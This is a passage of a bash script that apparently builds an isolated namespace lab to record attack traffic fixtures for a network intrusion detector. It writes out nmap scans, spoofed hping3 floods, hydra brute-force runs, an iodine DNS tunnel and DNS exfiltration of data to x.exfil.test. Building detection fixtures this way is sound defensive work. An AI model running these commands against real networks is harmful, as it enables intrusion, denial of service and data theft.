#!/usr/bin/env bash
# NetSentinel attack lab: builds a small network of namespaces joined by a
# bridge, runs real services and real attack tools in it, and records one
# capture per scenario into tests/fixtures/. All traffic stays inside the
# namespaces: the bridge has no uplink and no host has a default route.
#
#   sudo tests/lab/make_fixtures.sh                 # every scenario
#   sudo tests/lab/make_fixtures.sh scan_syn brute_ssh   # only these
#   sudo tests/lab/make_fixtures.sh --list          # scenario names
#   sudo tests/lab/make_fixtures.sh --up            # build the lab, wait (debugging)
#
# Environment: LAB_OUT (default tests/fixtures), LAB_BENIGN_SECONDS (240),
# LAB_HOLDOUT_SECONDS (60), LAB_MIXED_SECONDS (90), LAB_LAN_SECONDS (180),
# LAB_LAN_HOLDOUT_SECONDS (120), LAB_DAILY_SECONDS (150), LAB_TRAIN_SECONDS (300),
# LAB_BEACON_COUNT (30), LAB_PREFIX (nslab-: namespace names), LAB_KEEP=1 keeps the work
# directory (logs, configs) after the run.
#
# Topology (home_net 10.99.0.0/24; namespaces are named nslab-<name>; each
# host has a fixed MAC, 02:99 then its first address in hex):
#   sw          br0, the switch; tcpdump records here
#   victim      10.99.0.10   sshd 22, web 80/443 (http_server.ts), dnsmasq 53,
#                            a silent listener on 3306
#   victim2     10.99.0.11-.15  web 80 (second server, extra addresses)
#   farm        10.99.0.100-.139  forty small devices polling the servers
#                            (and targets for the sweeps)
#   client      10.99.0.20   person browsing, DNS, downloads
#   client2     10.99.0.21   second person, other habits
#   client3     10.99.0.22   third person
#   admin       10.99.0.30   ssh sessions, admin pages over HTTPS
#   attacker    10.99.0.66   nmap, hping3, hydra, iodine, dig, nc
#   outside     203.0.113.66 attacker outside home_net (on-link route)
#   inet        198.51.100.53 iodined (tunnel server for t.tun.test)
#               198.51.100.54 upstream resolver (dnsmasq) for non-lab names
set -euo pipefail

HERE="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"
REPO="$(cd "$HERE/../.." && pwd)"
OUT="${LAB_OUT:-$REPO/tests/fixtures}"
BENIGN_SECONDS="${LAB_BENIGN_SECONDS:-240}"
HOLDOUT_SECONDS="${LAB_HOLDOUT_SECONDS:-60}"
MIXED_SECONDS="${LAB_MIXED_SECONDS:-90}"
P="${LAB_PREFIX:-nslab-}" # namespace name prefix (LAB_PREFIX: run two labs at once)

PASSWORD="$(tail -n 1 "$HERE/wordlist.txt")" # ssh labuser and web admin
SSH_USER="labuser"
WEB_USER="admin"
TUNNEL_PASSWORD="lab-tunnel"
TUNNEL_DOMAIN="t.tun.test"
EXFIL_DOMAIN="x.exfil.test"

VICTIM=10.99.0.10
VICTIM2=10.99.0.11
CLIENT=10.99.0.20
CLIENT2=10.99.0.21
ADMIN=10.99.0.30
ATTACKER=10.99.0.66
OUTSIDE=203.0.113.66
TUNNEL_SERVER=198.51.100.53
UPSTREAM_DNS=198.51.100.54

ALL_SCENARIOS=(benign benign_holdout scan_syn scan_frag scan_connect scan_fin scan_xmas
  scan_null scan_udp scan_ack scan_slow sweep_icmp sweep_tcp flood_syn
  flood_udp flood_icmp brute_ssh brute_http dns_tunnel dns_exfil
  malformed_http suspicious_ports external_inbound mixed tls12 tls13
  http_keepalive dns_tcp scan_distributed scan_decoy arp_spoof rogue_dhcp beacon
  exfil_upload benign_lan benign_lan_holdout benign_train benign_daily_a benign_daily_b benign_daily_c)

# name | addresses (first is primary) | route prefixes reached on-link
HOSTS=(
  "victim|10.99.0.10/24|203.0.113.0/24 198.51.100.0/24"
  "victim2|10.99.0.11/24 10.99.0.12/24 10.99.0.13/24 10.99.0.14/24 10.99.0.15/24|203.0.113.0/24 198.51.100.0/24"
  "farm|$(for i in $(seq 100 139); do printf '10.99.0.%d/24 ' "$i"; done)|"
  "client|10.99.0.20/24|203.0.113.0/24 198.51.100.0/24"
  "client2|10.99.0.21/24|203.0.113.0/24 198.51.100.0/24"
  "client3|10.99.0.22/24|203.0.113.0/24 198.51.100.0/24"
  "admin|10.99.0.30/24|203.0.113.0/24 198.51.100.0/24"
  "attacker|10.99.0.66/24|203.0.113.0/24 198.51.100.0/24"
  "outside|203.0.113.66/24|10.99.0.0/24 198.51.100.0/24"
  "inet|198.51.100.53/24 198.51.100.54/24|10.99.0.0/24 203.0.113.0/24"
)

NS_NAMES=(sw)
for _entry in "${HOSTS[@]}"; do NS_NAMES+=("${_entry%%|*}"); done
unset _entry

say() { printf 'make_fixtures: %s\n' "$*" >&2; }
die() { say "$*"; exit 1; }

# Runs a command inside lab namespace $1.
nsx() {
  local ns="$1"
  shift
  ip netns exec "$P$ns" "$@"
}

# Polls "$@" every 0.1 s until it succeeds; fails after $1 seconds naming $2.
wait_for() {
  local secs="$1" what="$2"
  shift 2
  local deadline=$((SECONDS + secs))
  until "$@" >/dev/null 2>&1; do
    ((SECONDS < deadline)) || die "Timed out after ${secs}s waiting for $what"
    sleep 0.1
  done
}

# True when namespace $1 has a socket listening on $2 (tcp|udp) port $3.
listening() {
  local flag=-lnt
  [[ "$2" == udp ]] && flag=-lnu
  [[ -n "$(nsx "$1" ss -H "$flag" "sport = :$3")" ]]
}

# ---------------------------------------------------------------- teardown

WORK=""
CREATED_RUN_SSHD=0
CREATED_RUN_AVAHI=0
CREATED_ETC_NETNS=0
CAP_PID=""

teardown() {
  local rc=$?
  set +e
  trap - EXIT
  local ns pids deadline
  for ns in "${NS_NAMES[@]}"; do
    [[ -e "/run/netns/$P$ns" ]] || continue
    pids="$(ip netns pids "$P$ns")"
    # shellcheck disable=SC2086
    [[ -n "$pids" ]] && kill -TERM $pids 2>/dev/null
  done
  deadline=$((SECONDS + 5))
  for ns in "${NS_NAMES[@]}"; do
    [[ -e "/run/netns/$P$ns" ]] || continue
    while [[ -n "$(ip netns pids "$P$ns")" ]] && ((SECONDS < deadline)); do
      sleep 0.1
    done
    pids="$(ip netns pids "$P$ns")"
    # shellcheck disable=SC2086
    [[ -n "$pids" ]] && kill -KILL $pids 2>/dev/null
    ip netns del "$P$ns"
  done
  rm -rf /etc/netns/"$P"*
  ((CREATED_ETC_NETNS)) && rmdir /etc/netns 2>/dev/null
  ((CREATED_RUN_SSHD)) && rmdir /run/sshd 2>/dev/null
  ((CREATED_RUN_AVAHI)) && rmdir /run/avahi-daemon 2>/dev/null
  if [[ -n "$WORK" && -d "$WORK" ]]; then
    if [[ "${LAB_KEEP:-}" == 1 ]]; then say "work directory kept: $WORK"; else rm -rf "$WORK"; fi
  fi
  ((rc == 0)) || say "failed (exit $rc); lab torn down"
  exit "$rc"
}

# ---------------------------------------------------------------- the lab

check_tools() {
  [[ $(id -u) -eq 0 ]] || die "Cannot build the lab: run as root (sudo $0)"
  local t missing=()
  for t in ip ss ethtool tcpdump nmap hping3 hydra iodine iodined dnsmasq \
    /usr/sbin/sshd ssh ssh-keygen openssl curl dig nc deno ifconfig base32 \
    arpspoof dhclient udhcpc avahi-daemon chronyd timeout; do
    command -v "$t" >/dev/null || missing+=("$t")
  done
  ((${#missing[@]} == 0)) || die "Cannot build the lab: missing ${missing[*]} (./run.sh setup test)"
  local ns
  for ns in "${NS_NAMES[@]}"; do
    if [[ -e "/run/netns/$P$ns" ]]; then
      die "Cannot build the lab: namespace \"$P$ns\" exists (another run? remove it with: ip netns del $P$ns)"
    fi
  done
}

# mac for an address: 02:99 then the four address bytes in hex
mac_for() {
  local IFS=.
  # shellcheck disable=SC2086
  set -- $1
  printf '02:99:%02x:%02x:%02x:%02x' "$1" "$2" "$3" "$4"
}

build_network() {
  ip netns add "${P}sw"
  nsx sw sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
  nsx sw ip link set lo up
  nsx sw ip link add br0 type bridge stp_state 0 forward_delay 0 mcast_snooping 0
  nsx sw ip link set br0 up
  [[ -d /etc/netns ]] || { mkdir /etc/netns && CREATED_ETC_NETNS=1; }
  local entry name addrs routes addr primary r
  for entry in "${HOSTS[@]}"; do
    IFS='|' read -r name addrs routes <<<"$entry"
    ip netns add "$P$name"
    nsx "$name" sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
    nsx "$name" ip link set lo up
    ip link add "p-$name" netns "${P}sw" type veth peer name eth0 netns "$P$name"
    nsx sw ip link set "p-$name" master br0 up
    primary="${addrs%% *}"
    nsx "$name" ip link set eth0 address "$(mac_for "${primary%/*}")"
    # Full-size frames with real checksums, as a mirror port would see them.
    nsx "$name" ethtool -K eth0 tx off tso off gso off gro off >/dev/null 2>&1 || true
    for addr in $addrs; do nsx "$name" ip addr add "$addr" dev eth0; done
    nsx "$name" ip link set eth0 up
    for r in $routes; do nsx "$name" ip route add "$r" dev eth0; done
    mkdir -p "/etc/netns/$P$name"
    if [[ "$name" == outside || "$name" == inet ]]; then
      printf 'nameserver %s\noptions timeout:2 attempts:1\n' "$UPSTREAM_DNS" >"/etc/netns/$P$name/resolv.conf"
    else
      printf 'nameserver %s\nsearch lab.test\noptions timeout:2 attempts:1\n' "$VICTIM" >"/etc/netns/$P$name/resolv.conf"
    fi
  done
}

write_configs() {
  mkdir -p "$WORK"/{run,log,cap,ssh,home,tls,data,bin}
  chmod 755 "$WORK" # the lab user's home lives below it
  chown 4242:4242 "$WORK/home"

  # A lab user that exists only inside sshd's private mount namespace.
  local hash
  hash="$(openssl passwd -6 -salt netsentinellab "$PASSWORD")"
  { cat /etc/passwd; echo "$SSH_USER:x:4242:4242:Lab user:$WORK/home:/bin/bash"; } >"$WORK/ssh/passwd"
  { cat /etc/shadow; echo "$SSH_USER:$hash:19700:0:99999:7:::"; } >"$WORK/ssh/shadow"
  { cat /etc/group; echo "$SSH_USER:x:4242:"; } >"$WORK/ssh/group"
  chmod 640 "$WORK/ssh/shadow"
  ssh-keygen -q -t ed25519 -N '' -C lab-victim -f "$WORK/ssh/ssh_host_ed25519_key"
  cat >"$WORK/ssh/sshd_config" <<EOF
Port 22
ListenAddress $VICTIM
HostKey $WORK/ssh/ssh_host_ed25519_key
PidFile $WORK/run/sshd.pid
UsePAM no
PasswordAuthentication yes
KbdInteractiveAuthentication no
PubkeyAuthentication no
PermitRootLogin no
AllowUsers $SSH_USER
MaxStartups 100:30:200
LoginGraceTime 20
UseDNS no
PrintMotd no
PrintLastLog no
Subsystem sftp internal-sftp
EOF
  printf '#!/bin/sh\nprintf "%%s\\n" %q\n' "$PASSWORD" >"$WORK/bin/askpass"
  chmod 755 "$WORK/bin/askpass"

  openssl req -x509 -newkey rsa:2048 -nodes -days 30 -subj "/CN=www.lab.test" \
    -addext "subjectAltName=DNS:www.lab.test,DNS:intranet.lab.test,IP:$VICTIM" \
    -keyout "$WORK/tls/key.pem" -out "$WORK/tls/cert.pem" 2>/dev/null

  cat >"$WORK/dnsmasq-lab.conf" <<EOF
listen-address=$VICTIM
bind-interfaces
port=53
no-resolv
no-hosts
no-poll
domain-needed
local=/lab.test/
domain=lab.test
host-record=victim.lab.test,$VICTIM
host-record=www.lab.test,$VICTIM
host-record=intranet.lab.test,$VICTIM
host-record=wiki.lab.test,$VICTIM
host-record=files.lab.test,$VICTIM
host-record=mail.lab.test,$VICTIM
host-record=git.lab.test,$VICTIM2
host-record=nas.lab.test,$VICTIM2
host-record=printer.lab.test,10.99.0.100
host-record=client.lab.test,$CLIENT
host-record=client2.lab.test,$CLIENT2
host-record=admin.lab.test,$ADMIN
mx-host=lab.test,mail.lab.test,10
txt-record=lab.test,"v=spf1 mx -all"
srv-host=_sip._tcp.lab.test,mail.lab.test,5060,10,5
cname=docs.lab.test,wiki.lab.test
server=/tun.test/$TUNNEL_SERVER
server=$UPSTREAM_DNS
cache-size=500
pid-file=$WORK/run/dnsmasq-lab.pid
EOF
  cat >"$WORK/dnsmasq-upstream.conf" <<EOF
listen-address=$UPSTREAM_DNS
bind-interfaces
port=53
no-resolv
no-hosts
no-poll
host-record=www.example.com,198.51.100.80
host-record=example.com,198.51.100.80
host-record=example.org,198.51.100.81
host-record=deb.debian.org,198.51.100.90
host-record=security.debian.org,198.51.100.91
host-record=time.example.net,198.51.100.123
host-record=cdn.example.com,198.51.100.82
host-record=mail.example.com,198.51.100.83
host-record=api.weather.example,198.51.100.84
mx-host=example.com,mail.example.com,10
txt-record=example.com,"v=spf1 -all"
address=/#/
pid-file=$WORK/run/dnsmasq-upstream.pid
EOF

  # Deterministic, incompressible data for the tunnel and the exfiltration.
  { openssl enc -aes-128-ctr -nosalt -K 000102030405060708090a0b0c0d0e0f \
    -iv 00000000000000000000000000000000 </dev/zero 2>/dev/null || true; } |
    head -c 524288 >"$WORK/data/secret.bin"
}

start_services() {
  local deno
  deno="$(command -v deno)"
  # sshd: the lab user's passwd/shadow bound over /etc inside this command's
  # private mount namespace (ip netns exec makes one), invisible outside.
  if [[ ! -d /run/sshd ]]; then mkdir -m 755 /run/sshd && CREATED_RUN_SSHD=1; fi
  nsx victim sh -c "mount --bind '$WORK/ssh/passwd' /etc/passwd &&
    mount --bind '$WORK/ssh/shadow' /etc/shadow &&
    mount --bind '$WORK/ssh/group' /etc/group &&
    exec /usr/sbin/sshd -D -e -f '$WORK/ssh/sshd_config'" >"$WORK/log/sshd.log" 2>&1 &
  # No update check: it would put dl.deno.land lookups into the captures.
  export DENO_NO_UPDATE_CHECK=1
  nsx victim "$deno" run --allow-net --allow-read="$WORK/tls" "$HERE/http_server.ts" \
    --host "$VICTIM" --port 80 --tls-port 443 \
    --cert "$WORK/tls/cert.pem" --key "$WORK/tls/key.pem" >"$WORK/log/web-victim.log" 2>&1 &
  nsx victim dnsmasq -k -C "$WORK/dnsmasq-lab.conf" >"$WORK/log/dnsmasq-lab.log" 2>&1 &
  nsx victim nc -lk "$VICTIM" 3306 </dev/null >/dev/null 2>&1 &
  nsx victim2 "$deno" run --allow-net "$HERE/http_server.ts" --host 0.0.0.0 --port 80 \
    >"$WORK/log/web-victim2.log" 2>&1 &
  nsx inet dnsmasq -k -C "$WORK/dnsmasq-upstream.conf" >"$WORK/log/dnsmasq-upstream.log" 2>&1 &
  nsx inet iodined -f -c -P "$TUNNEL_PASSWORD" -l "$TUNNEL_SERVER" -p 53 \
    -n "$TUNNEL_SERVER" 172.30.0.1/27 "$TUNNEL_DOMAIN" >"$WORK/log/iodined.log" 2>&1 &

  wait_for 20 "sshd on $VICTIM:22" listening victim tcp 22
  wait_for 60 "web server on $VICTIM:80" listening victim tcp 80
  wait_for 60 "web server on $VICTIM:443" listening victim tcp 443
  wait_for 60 "web server on $VICTIM2:80" listening victim2 tcp 80
  wait_for 20 "dnsmasq on $VICTIM:53" listening victim udp 53
  wait_for 20 "listener on $VICTIM:3306" listening victim tcp 3306
  wait_for 20 "upstream dnsmasq on $UPSTREAM_DNS:53" listening inet udp 53
  wait_for 20 "iodined on $TUNNEL_SERVER:53 (see $WORK/log/iodined.log)" \
    nsx inet sh -c 'ip -4 addr show dev dns0 | grep -q inet'
  say "lab is up (work directory $WORK)"
}

# ---------------------------------------------------------------- capturing

flush_neighbours() {
  local entry name
  for entry in "${HOSTS[@]}"; do
    name="${entry%%|*}"
    nsx "$name" ip neigh flush all >/dev/null 2>&1 || true
  done
}

# start_capture NAME SNAPLEN: tcpdump on the switch's bridge into $WORK/cap.
start_capture() {
  CAP_NAME="$1"
  flush_neighbours
  # ip netns exec execs tcpdump, so $! is tcpdump itself.
  ip netns exec "${P}sw" tcpdump -i br0 -n -s "$2" -U -w "$WORK/cap/$1.pcap" \
    >"$WORK/log/tcpdump-$1.log" 2>&1 &
  CAP_PID=$!
  wait_for 10 "tcpdump to start for $1" grep -q "listening on" "$WORK/log/tcpdump-$1.log"
  sleep 0.5 # the first frames after "listening" can still be missed
}

# stop_capture: lets the last answers arrive, stops tcpdump, publishes the file.
stop_capture() {
  sleep 2
  kill -TERM "$CAP_PID" # background jobs ignore SIGINT
  wait "$CAP_PID" || true
  CAP_PID=""
  grep -h "dropped by kernel" "$WORK/log/tcpdump-$CAP_NAME.log" | grep -qv "^0 " &&
    say "warning: tcpdump dropped packets in $CAP_NAME"
  mv "$WORK/cap/$CAP_NAME.pcap" "$OUT/$CAP_NAME.pcap"
  say "$CAP_NAME: $(packet_count "$OUT/$CAP_NAME.pcap") packets, $(stat -c %s "$OUT/$CAP_NAME.pcap") bytes"
}

# (Not `tcpdump -r | wc -l`: some of tcpdump's protocol printers emit extra lines.)
packet_count() { tcpdump --count -r "$1" 2>/dev/null | awk '{ print $1 }'; }

# ---------------------------------------------------------------- benign actors

UA="Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
PAGES=(news weekly-notes budget-2024 printer-howto backup-policy coffee-rota
  project-alpha project-beta release-notes holidays onboarding vpn-setup
  wifi-guest meeting-room-a meeting-room-b it-faq security-tips canteen-menu
  parking phone-list org-chart travel-policy expenses timesheets handbook
  ci-status deploy-log incident-42 roadmap retro-notes)
LAB_NAMES=(www intranet wiki files mail git nas printer victim)
OUT_NAMES=(www.example.com example.com example.org deb.debian.org
  security.debian.org time.example.net cdn.example.com mail.example.com
  api.weather.example wwww.example.com exmaple.org)

# pick WORDS...: sets PICK to one of them, from bash's seeded RANDOM. (Not a
# $(...) function: bash reseeds RANDOM in subshells, which breaks replay.)
pick() {
  shift $((RANDOM % $#))
  PICK="$1"
}

# think MIN_TENTHS SPREAD_TENTHS: a person's pause, from the seeded RANDOM
think() {
  local t=$(($1 + RANDOM % $2))
  sleep "$((t / 10)).$((t % 10))"
}

browse_page() { # ns: one page with its assets, over plain HTTP
  local ns="$1" host n i urls=()
  pick www www intranet wiki git nas
  host="$PICK.lab.test"
  pick "${PAGES[@]}"
  nsx "$ns" curl -s -o /dev/null --max-time 15 -A "$UA" "http://$host/page/$PICK.html" || true
  urls=(-o /dev/null "http://$host/static/style.css" -o /dev/null "http://$host/static/app.js")
  n=$((RANDOM % 5))
  for ((i = 0; i < n; i++)); do urls+=(-o /dev/null "http://$host/img/$((RANDOM % 60)).png"); done
  nsx "$ns" curl -s --no-progress-meter -Z --parallel-max 3 --max-time 15 -A "$UA" "${urls[@]}" \
    2>/dev/null || true
}

browse_tls() { # ns: a page over HTTPS (self-signed certificate)
  local ns="$1" host
  pick www intranet
  host="$PICK.lab.test"
  pick "${PAGES[@]}"
  nsx "$ns" curl -sk --max-time 15 -A "$UA" -o /dev/null "https://$host/page/$PICK.html" \
    -o /dev/null "https://$host/static/style.css" || true
}

lookups() { # ns: a few DNS questions, lab and outside names
  local ns="$1" n i name type
  n=$((1 + RANDOM % 4))
  for ((i = 0; i < n; i++)); do
    case $((RANDOM % 6)) in
      0 | 1) pick "${LAB_NAMES[@]}"; name="$PICK.lab.test"; type=A ;;
      2 | 3) pick "${OUT_NAMES[@]}"; name="$PICK"; pick A A AAAA; type="$PICK" ;;
      4) pick lab.test example.com; name="$PICK"; pick MX TXT; type="$PICK" ;;
      5) pick 10 11 20 21 30 100; name="$PICK.0.99.10.in-addr.arpa"; type=PTR ;;
    esac
    nsx "$ns" dig +short +tries=1 +time=2 "$name" "$type" >/dev/null 2>&1 || true
    think 1 8
  done
}

api_calls() { # ns: an app polling a JSON API and posting a note
  local ns="$1" host
  pick www intranet nas
  host="$PICK.lab.test"
  nsx "$ns" curl -s -o /dev/null --max-time 10 "http://$host/api/status" || true
  if ((RANDOM % 3 == 0)); then
    pick hello lunch build backup
    nsx "$ns" curl -s -o /dev/null --max-time 10 -H 'content-type: application/json' \
      -d "{\"note\":\"$PICK\",\"n\":$RANDOM}" "http://$host/api/echo" || true
  fi
}

download() { # ns KiB: a bulk download at a home-broadband pace
  nsx "$1" curl -s -o /dev/null --max-time 60 --limit-rate 4M -A "$UA" \
    "http://files.lab.test/files/$2.bin" || true
}

# actor_browse NS SEED SECONDS DOWNLOAD_KIB: a person at a workstation.
actor_browse() {
  local ns="$1" secs="$3" kib="$4" end iter=0 r dl_at
  RANDOM="$2"
  end=$((SECONDS + secs))
  dl_at=$((8 + RANDOM % 20))
  while ((SECONDS < end)); do
    iter=$((iter + 1))
    r=$((RANDOM % 100))
    if ((iter == dl_at && kib > 0)); then
      download "$ns" "$kib"
    elif ((r < 45)); then
      browse_page "$ns"
    elif ((r < 60)); then
      browse_tls "$ns"
    elif ((r < 78)); then
      lookups "$ns"
    elif ((r < 90)); then
      api_calls "$ns"
    else
      think 30 50 # reading
    fi
    think 2 25
  done
}

# type_session SEED COMMAND...: what a person types in an ssh session, a key
# at a time (it runs in a pipeline's subshell, hence its own seed).
type_session() {
  local cmd i
  RANDOM="$1"
  shift
  sleep 1.5
  for cmd in "$@"; do
    for ((i = 0; i < ${#cmd}; i++)); do
      printf '%s' "${cmd:i:1}"
      think 1 2
    done
    printf '\n'
    think 8 25
  done
  printf 'exit\n'
  sleep 1
}

ssh_opts=(-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR
  -o PreferredAuthentications=password -o PubkeyAuthentication=no -o ConnectTimeout=10)

ssh_interactive() { # ns: an interactive session with typed commands
  local ns="$1" cmds=()
  pick uptime 'df -h' 'free -m' 'ls -la'
  cmds+=("$PICK")
  pick 'uname -a' 'ps aux | head' 'id' 'cat /etc/os-release'
  cmds+=("$PICK")
  pick 'tail -n 20 /etc/services' 'ls /etc' 'date' 'who'
  cmds+=("$PICK")
  type_session "$RANDOM" "${cmds[@]}" |
    nsx "$ns" env SSH_ASKPASS="$WORK/bin/askpass" SSH_ASKPASS_REQUIRE=force \
      ssh -tt "${ssh_opts[@]}" "$SSH_USER@$VICTIM" >/dev/null 2>&1 || true
}

ssh_command() { # ns: a one-shot remote command
  pick 'uptime' 'df -h /' 'ls -l /tmp' 'cat /proc/loadavg'
  nsx "$1" env SSH_ASKPASS="$WORK/bin/askpass" SSH_ASKPASS_REQUIRE=force \
    ssh "${ssh_opts[@]}" "$SSH_USER@$VICTIM" "$PICK" </dev/null >/dev/null 2>&1 || true
}

# actor_admin NS SEED SECONDS: an administrator looking after the servers.
actor_admin() {
  local ns="$1" secs="$3" end r
  RANDOM="$2"
  end=$((SECONDS + secs))
  while ((SECONDS < end)); do
    r=$((RANDOM % 100))
    if ((r < 35)); then
      ssh_interactive "$ns"
    elif ((r < 55)); then
      ssh_command "$ns"
    elif ((r < 75)); then
      pick '' status logs users
      nsx "$ns" curl -sk -o /dev/null --max-time 10 -u "$WEB_USER:$PASSWORD" \
        "https://www.lab.test/admin/$PICK" || true
    elif ((r < 90)); then
      lookups "$ns"
    else
      browse_page "$ns"
    fi
    think 20 80
  done
}

# actor_devices SEED SECONDS: forty small devices (printers, cameras,
# sensors) in the farm namespace, each asking DNS and polling a status page.
actor_devices() {
  local secs="$2" end dev
  RANDOM="$1"
  end=$((SECONDS + secs))
  while ((SECONDS < end)); do
    dev="10.99.0.$((100 + RANDOM % 40))"
    case $((RANDOM % 5)) in
      0 | 1)
        pick nas.lab.test git.lab.test www.lab.test printer.lab.test time.example.net \
          api.weather.example cdn.example.com
        nsx farm dig -b "$dev" +short +tries=1 +time=2 "$PICK" >/dev/null 2>&1 || true
        ;;
      2 | 3)
        pick nas git www
        nsx farm curl -s -o /dev/null --max-time 10 --interface "$dev" \
          "http://$PICK.lab.test/api/status" || true
        ;;
      4)
        nsx farm curl -s -o /dev/null --max-time 10 --interface "$dev" \
          "http://nas.lab.test/img/$((RANDOM % 20)).png" || true
        ;;
    esac
    think 3 12
  done
}

# actor_server2 SEED SECONDS: the second server's own housekeeping.
actor_server2() {
  local secs="$2" end
  RANDOM="$1"
  end=$((SECONDS + secs))
  while ((SECONDS < end)); do
    pick deb.debian.org security.debian.org time.example.net
    nsx victim2 dig +short +tries=1 +time=2 "$PICK" >/dev/null 2>&1 || true
    nsx victim2 curl -s -o /dev/null --max-time 10 "http://www.lab.test/api/status" || true
    think 100 200
  done
}

# benign_traffic SECONDS SEED_BASE KIB: everyone at work, in parallel.
benign_traffic() {
  local secs="$1" s="$2" kib="$3" pids=()
  actor_browse client "$((s + 1))" "$secs" "$kib" & pids+=($!)
  actor_browse client2 "$((s + 2))" "$secs" "$((kib / 2))" & pids+=($!)
  actor_browse client3 "$((s + 5))" "$secs" 0 & pids+=($!)
  actor_admin admin "$((s + 3))" "$secs" & pids+=($!)
  actor_server2 "$((s + 4))" "$secs" & pids+=($!)
  actor_devices "$((s + 6))" "$secs" & pids+=($!)
  wait "${pids[@]}"
}

# ---------------------------------------------------------------- scenarios

SLOW_PORTS=21,22,23,25,53,80,110,111,135,139,143,443,445,993,995,1723,3306,3389,5900,8080

nmap_at() { # nmap from the attacker, quiet
  nsx attacker nmap -n "$@" >>"$WORK/log/nmap.log" 2>&1
}

scn_benign() {
  start_capture benign 512
  benign_traffic "$BENIGN_SECONDS" 10 768
  stop_capture
}

scn_benign_holdout() {
  start_capture benign_holdout 512
  benign_traffic "$HOLDOUT_SECONDS" 1000 384
  stop_capture
}

scn_scan_syn() { start_capture scan_syn 512; nmap_at -Pn -sS -T4 "$VICTIM"; stop_capture; }
# -f: every probe cut into 8-byte IP fragments (the first too short for
# the TCP header), the evasion IP defragmentation undoes.
scn_scan_frag() { start_capture scan_frag 512; nmap_at -Pn -sS -f -T4 "$VICTIM"; stop_capture; }
scn_scan_connect() { start_capture scan_connect 512; nmap_at -Pn -sT -T4 "$VICTIM"; stop_capture; }
scn_scan_fin() { start_capture scan_fin 512; nmap_at -Pn -sF -T4 "$VICTIM"; stop_capture; }
scn_scan_xmas() { start_capture scan_xmas 512; nmap_at -Pn -sX -T4 "$VICTIM"; stop_capture; }
scn_scan_null() { start_capture scan_null 512; nmap_at -Pn -sN -T4 "$VICTIM"; stop_capture; }
scn_scan_ack() { start_capture scan_ack 512; nmap_at -Pn -sA -T4 "$VICTIM"; stop_capture; }
scn_scan_udp() {
  start_capture scan_udp 512
  nmap_at -Pn -sU -T4 --max-retries 1 --top-ports 100 "$VICTIM"
  stop_capture
}
scn_scan_slow() {
  start_capture scan_slow 512
  nmap_at -Pn -sS --scan-delay 4s --max-retries 0 -p "$SLOW_PORTS" "$VICTIM"
  stop_capture
}

scn_sweep_icmp() {
  start_capture sweep_icmp 512
  nmap_at -sn -PE --disable-arp-ping --send-ip 10.99.0.1-254
  stop_capture
}

scn_sweep_tcp() {
  start_capture sweep_tcp 512
  nmap_at -Pn -sS -p 22 --send-ip --max-retries 0 10.99.0.1-254
  stop_capture
}

scn_flood_syn() {
  start_capture flood_syn 64
  nsx attacker hping3 -q -S -p 80 --rand-source -c 4000 -i u250 "$VICTIM" >>"$WORK/log/hping3.log" 2>&1 || true
  stop_capture
}

scn_flood_udp() {
  start_capture flood_udp 64
  nsx attacker hping3 -q --udp -p 7777 -d 200 -c 4000 -i u250 "$VICTIM" >>"$WORK/log/hping3.log" 2>&1 || true
  stop_capture
}

scn_flood_icmp() {
  start_capture flood_icmp 64
  nsx attacker hping3 -q --icmp -d 56 -c 2000 -i u300 "$VICTIM" >>"$WORK/log/hping3.log" 2>&1 || true
  stop_capture
}

hydra_at() { # hydra from the attacker, in the work dir (it writes a restore file)
  (cd "$WORK" && nsx attacker hydra -I -q -l "$1" -P "$HERE/wordlist.txt" -t 4 "${@:2}") \
    >>"$WORK/log/hydra.log" 2>&1 || true
}

scn_brute_ssh() {
  start_capture brute_ssh 512
  hydra_at "$SSH_USER" "ssh://$VICTIM"
  stop_capture
}

scn_brute_http() {
  start_capture brute_http 512
  hydra_at "$WEB_USER" "http-get://$VICTIM/admin/"
  stop_capture
}

scn_dns_tunnel() {
  start_capture dns_tunnel 512
  # -r: stay on DNS through the lab resolver (no raw UDP straight to iodined).
  ip netns exec "${P}attacker" iodine -f -r -P "$TUNNEL_PASSWORD" "$VICTIM" "$TUNNEL_DOMAIN" \
    >"$WORK/log/iodine.log" 2>&1 &
  local iodine_pid=$!
  wait_for 60 "the iodine tunnel (see $WORK/log/iodine.log)" \
    nsx attacker sh -c 'ip -4 addr show dev dns0 | grep -q inet'
  wait_for 30 "the tunnel to carry pings" nsx attacker ping -c 1 -W 2 172.30.0.1
  # Upload (exfiltration, in query names) then download (in answers).
  local up_bytes=65536 down_bytes=65536 got
  ip netns exec "${P}inet" timeout 120 nc -l -N 172.30.0.1 9000 </dev/null >"$WORK/tunnel-up.bin" 2>/dev/null &
  local up=$!
  wait_for 10 "the tunnel listener" listening inet tcp 9000
  head -c "$up_bytes" "$WORK/data/secret.bin" | nsx attacker timeout 120 nc -N 172.30.0.1 9000 || true
  wait "$up" || true
  got="$(stat -c %s "$WORK/tunnel-up.bin")"
  ((got == up_bytes)) || die "The tunnel carried $got of $up_bytes bytes up (see $WORK/log/iodine.log)"
  head -c "$down_bytes" "$WORK/data/secret.bin" | nsx inet timeout 120 nc -l -N 172.30.0.1 9001 >/dev/null 2>&1 &
  local down=$!
  wait_for 10 "the tunnel listener" listening inet tcp 9001
  nsx attacker timeout 120 nc 172.30.0.1 9001 </dev/null >"$WORK/tunnel-down.bin" 2>/dev/null || true
  wait "$down" || true
  got="$(stat -c %s "$WORK/tunnel-down.bin")"
  ((got == down_bytes)) || die "The tunnel carried $got of $down_bytes bytes down (see $WORK/log/iodine.log)"
  kill -TERM "$iodine_pid" 2>/dev/null || true
  wait "$iodine_pid" || true
  stop_capture
}

scn_dns_exfil() {
  start_capture dns_exfil 512
  # 6 KiB of "secret" in 50-character base32 labels, one query each; every
  # eighth chunk as a TXT question (as DNS exfiltration kits do).
  local chunks i=0 chunk batch="$WORK/exfil-queries.txt"
  mapfile -t chunks < <(head -c 6144 "$WORK/data/secret.bin" | base32 -w 50 | tr -d '=' | tr 'A-Z' 'a-z')
  : >"$batch"
  for chunk in "${chunks[@]}"; do
    if ((i % 8 == 7)); then
      printf '%s.%d.%s TXT\n' "$chunk" "$i" "$EXFIL_DOMAIN" >>"$batch"
    else
